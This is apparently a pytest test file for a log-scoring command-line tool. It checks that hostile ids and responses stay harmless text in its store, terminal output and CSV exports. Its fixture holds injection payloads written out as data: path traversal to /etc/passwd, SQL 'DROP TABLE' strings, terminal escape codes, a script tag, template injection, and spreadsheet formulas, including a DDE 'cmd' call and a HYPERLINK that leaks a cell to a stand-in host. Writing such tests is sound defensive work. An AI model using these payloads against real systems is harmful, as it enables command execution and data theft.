"""Tests that paths, escape codes, markup, SQL and formulas in a log stay text."""

import csv
import io
import json
import re

import polars as pl
import pytest

from qsquared.display import visible
from tests.calling import files_of, q2

KNOWLEDGE = "The lighthouse was built in 1858 by Alan Brebner."
ESCAPES = "\x1b[2J\x1b]0;owned\x07\x1b]8;;http://x\x07\x9b31m\x08\r\u202e"
NAME = "[red]x\x1b[31m\x07.jsonl"
EVIL = {
    "../../../escaped": "  ",
    "/etc/passwd": "",
    "'; DROP TABLE turns; --": "'); DELETE FROM turns; --",
    f"id{ESCAPES}": f"Alan {ESCAPES} Brebner built it.",
    "[red]x[/red][link=http://x]": "[bold]Alan[/bold] <script>alert(1)</script> {{7*7}} ${x}",
    "=cmd|' /C calc'!A0": '=HYPERLINK("http://x?"&A1;"click")',
    "+1": "+1+1",
    "-1": "-1+1",
    "@SUM(1)": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1": "\t=1+1",
    "\u0000": "\r=1+1",
    "full": "\uff1d1+1",
}  # fmt: skip


@pytest.fixture(scope="module")
def evil(tmp_path_factory):
    """A store of a log with all of these texts; only blank ones have knowledge, so no model is needed."""
    folder = tmp_path_factory.mktemp("evil") / "inner" / "most"
    folder.mkdir(parents=True)
    log = folder / NAME
    log.write_text(
        "".join(
            json.dumps(
                {
                    "id": name,
                    "conversation_id": name,
                    "response": response,
                    "knowledge": "" if response.strip() else KNOWLEDGE,
                    "more": name,
                }
            )
            + "\n"
            for name, response in EVIL.items()
        )
        + '{"id": "bad\\u001b[31m", "response": 1, "x": "\x1b[2J"}\n'
        + '{"id": "bad", "response": "a", "turn": "\\u001b]0;owned\\u0007"}\n'
    )
    done = q2("score", log, "--store", folder / "store", "--out", folder / "out.csv")
    assert done.code == 0, done.err
    return folder, done


class Terminal(io.StringIO):
    """A stream that says it is a terminal."""

    def isatty(self):
        """Yes."""
        return True


def harmless(*texts):
    """No character that a terminal obeys."""
    return all(visible(text) == text for text in texts)


def test_a_path_in_an_id_names_no_file(evil):
    """All files are in the store, under names that the program gives."""
    folder, _ = evil
    outside = files_of(folder.parent.parent).keys() - {
        f"inner/most/store/{name}" for name in files_of(folder / "store")
    }
    assert outside == {f"inner/most/{NAME}", "inner/most/out.csv"}
    assert not [name for name in files_of(folder / "store") if "escaped" in name or ".." in name]
    assert q2("explain", "../../../escaped", "--store", folder / "store").code == 0


def test_sql_in_a_text_is_a_text(evil):
    """Every turn is there, and is found by an id that tries to end the query."""
    folder, _ = evil
    done = q2(
        "sql", "SELECT id FROM turns ORDER BY position", "--json", "--store", folder / "store"
    )
    assert [json.loads(line)["id"] for line in done.out.splitlines()] == list(EVIL)
    for name in EVIL:
        if "\0" not in name:
            shown = q2("explain", "--store", folder / "store", "--", name)
            assert shown.code == 0, shown.err


def test_no_escape_code_reaches_the_terminal(evil):
    """The output of score, explain, sql, status and of errors has no control character of the log."""
    folder, done = evil
    store = folder / "store"
    assert harmless(done.out, done.err)
    for command in (
        ("explain", f"id{ESCAPES}"),
        ("explain", f"nearly{ESCAPES}"),
        ("sql", "SELECT id, conversation_id, response, metadata FROM turns"),
        ("sql", "SELECT reason, raw FROM rejects"),
        ("sql", "SELECT response::INT FROM turns WHERE response LIKE 'Alan%'"),
        ("sql", f'SELECT 1 AS "name{ESCAPES}"'),
        ("status",),
        ("score", folder / f"none{ESCAPES}.jsonl"),
    ):
        shown = q2(*command, "--store", store)
        assert harmless(shown.out, shown.err), command
        assert shown.out + shown.err
    assert "owned" in q2("explain", f"id{ESCAPES}", "--store", store).out


@pytest.mark.parametrize("form", ["--csv", "--json"])
def test_data_on_a_terminal_has_no_escape_codes_either(evil, monkeypatch, form):
    """CSV and JSON go to a file or pipe as they are, to a terminal made visible."""
    folder, _ = evil
    query = ("sql", "SELECT response FROM turns WHERE response LIKE 'Alan%'", form)
    assert not harmless(q2(*query, "--store", folder / "store").out)
    monkeypatch.setattr("tests.calling.io.StringIO", Terminal)
    shown = q2(*query, "--store", folder / "store").out
    assert harmless(shown)
    assert "owned" in shown


def test_markup_is_shown_as_it_stands(evil):
    """Brackets, tags and templates are characters like others."""
    folder, _ = evil
    name, reply = "[red]x[/red][link=http://x]", "[bold]Alan[/bold] <script>alert(1)</script>"
    for command in (("explain", name), ("sql", "SELECT id, response FROM turns")):
        shown = q2(*command, "--store", folder / "store").out
        assert name in shown
        assert f"{reply} {{{{7*7}}}} ${{x}}" in shown


FORMULA = re.compile("[=+\\-@\t\r\n\uff1d\uff0b\uff0d\uff20]")


def test_no_cell_of_an_exported_csv_is_a_formula(evil):
    """Each text that a spreadsheet would run has a single quote before it, and only such."""
    folder, _ = evil
    with (folder / "out.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(EVIL)
    for row, (name, response) in zip(rows, EVIL.items(), strict=True):
        assert not any(FORMULA.match(cell) for cell in row.values())
        for column, text in (("id", name), ("conversation_id", name), ("response", response)):
            assert row[column] == ("'" + text if FORMULA.match(text) else text)


@pytest.mark.parametrize("form", ["parquet", "jsonl"])
def test_other_exports_hold_the_texts_as_logged(evil, form):
    """Formats that no spreadsheet runs hold the texts as they were logged."""
    folder, _ = evil
    out = folder / f"raw.{form}"
    done = q2("score", folder / NAME, "--store", folder / "store", "--out", out)
    assert done.code == 0, done.err
    frame = pl.read_parquet(out) if form == "parquet" else pl.read_ndjson(out)
    assert frame["id"].to_list() == list(EVIL)
    assert frame["response"].to_list() == list(EVIL.values())
    out.unlink()


def test_csv_of_a_query_is_guarded(evil):
    """The same quote in `q2 sql --csv`; numbers are never touched."""
    folder, _ = evil
    query = ("sql", "SELECT id, -position AS n FROM turns ORDER BY position", "--csv")
    done = q2(*query, "--store", folder / "store")
    rows = list(csv.reader(io.StringIO(done.out, newline="")))[1:]
    assert [row[0] for row in rows] == [
        "'" + name if FORMULA.match(name) else name for name in EVIL
    ]
    assert [int(row[1]) for row in rows] == [-i for i in range(len(EVIL))]
